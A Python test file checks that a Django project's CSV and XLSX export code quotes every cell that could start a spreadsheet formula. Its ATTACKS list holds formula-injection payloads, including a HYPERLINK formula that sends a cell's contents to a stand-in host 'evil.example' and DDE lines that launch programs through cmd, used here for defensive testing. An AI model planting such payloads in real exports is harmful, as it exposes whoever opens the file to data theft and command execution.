"""The one writer of CSV and XLSX files: no cell it writes can be a formula (issue 8)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from codemonitor.core.exports import (
    TRIGGERS,
    SafeCsvWriter,
    cell_safe,
    csv_bytes,
    xlsx_append,
    xlsx_bytes,
)

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Ministry of Health")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-5",  # text that looks like a number: quoted too (see core/exports.py)
    "+44 20 7946 0000",  # a telephone written as text
]
HARMLESS = ["Ministry of Health", "", "1+1", "5", "a=b", "Directorate -- HRH", "'quoted", "é=1"]


def test_the_triggers_are_owasp_s() -> None:
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_each_trigger_gets_a_quote(trigger: str) -> None:
    assert cell_safe(f"{trigger}1+1") == f"'{trigger}1+1"
    assert cell_safe(trigger) == f"'{trigger}"


@pytest.mark.parametrize("value", ATTACKS)
def test_text_that_could_start_a_formula_gets_a_quote(value: str) -> None:
    assert cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_as_it_is(value: str) -> None:
    assert cell_safe(value) == value


@pytest.mark.parametrize(
    "value",
    [-5, 0, 12, -2.5, Decimal("-1.50"), True, None, dt.date(2024, 2, 1), dt.time(9, 30)],
)
def test_numbers_dates_and_empty_cells_are_left_as_they_are(value: object) -> None:
    assert cell_safe(value) is value


def test_anything_else_is_written_and_checked_as_its_text() -> None:
    assert cell_safe(gettext_lazy("Ministry")) == "Ministry"

    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert cell_safe(Named()) == "'=1+1"


def test_the_csv_writer_quotes_every_dangerous_cell() -> None:
    rows = [["name", "count"], *([value, -3] for value in ATTACKS + HARMLESS)]
    data = csv_bytes(rows)
    read = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert read[0] == ["name", "count"]
    for value, row in zip(ATTACKS + HARMLESS, read[1:], strict=True):
        assert row == [("'" + value) if value in ATTACKS else value, "-3"]
    # The writer itself, over an open file, does the same.
    handle = io.StringIO()
    SafeCsvWriter(handle, lineterminator="\n").writerow(["=1+1", 2, None])
    assert handle.getvalue() == "'=1+1,2,\n"


def test_the_xlsx_cells_are_strings_never_formulas() -> None:
    rows: list[list[object]] = [
        ["name", "count"],
        *([value, -3] for value in [*ATTACKS, *HARMLESS, "#N/A"]),
    ]
    workbook = load_workbook(io.BytesIO(xlsx_bytes({"register": rows})))
    sheet = workbook["register"]
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert len(cells) == len(ATTACKS) + len(HARMLESS) + 1
    for value, (text, number) in zip([*ATTACKS, *HARMLESS, "#N/A"], cells, strict=True):
        expected = "'" + value if value in ATTACKS else value or None
        # A carriage return may read back as a line feed (the XML parser's choice: the
        # standard library's normalises it, lxml keeps it); the quote is still in front.
        assert text.value in ({expected, expected.replace("\r", "\n")} if expected else {None})
        assert text.data_type == "s" or (value == "" and text.value is None)
        assert (number.value, number.data_type) == (-3, "n")


def test_xlsx_append_on_a_sheet_of_ones_own() -> None:
    workbook = Workbook()
    sheet = workbook.active
    xlsx_append(sheet, ["name", "date"])
    xlsx_append(sheet, ["=1+1", dt.date(2024, 2, 1)])
    assert sheet["A2"].value == "'=1+1" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == dt.date(2024, 2, 1)
    output = io.BytesIO()
    workbook.save(output)
    again = load_workbook(io.BytesIO(output.getvalue()))
    assert again.active["A2"].value == "'=1+1"


def test_a_workbook_table_longer_than_a_sheet_goes_on_in_the_next(monkeypatch) -> None:
    import io

    from openpyxl import load_workbook

    from codemonitor.core import exports

    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)  # Excel's is 1,048,576
    handle = io.BytesIO()
    rows: list[list[object]] = [["id", "text"], *([n, f"=cmd{n}"] for n in range(5))]
    assert exports.xlsx_write(handle, [("answers", rows), ("other", [["a"], [1]])]) == 8
    workbook = load_workbook(io.BytesIO(handle.getvalue()), read_only=True)
    sheets = {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in workbook}
    names = list(sheets)
    assert len(names) == 4 and names[0] == "answers" and names[-1] == "other"
    first, *more = (sheets[name] for name in sheets if name.startswith("answers"))
    assert first == [("id", "text"), (0, "'=cmd0"), (1, "'=cmd1")]
    assert all(sheet[0] == ("id", "text") for sheet in more)
    assert [row for sheet in more for row in sheet[1:]] == [(n, f"'=cmd{n}") for n in (2, 3, 4)]
    assert sheets["other"] == [("a",), (1,)]
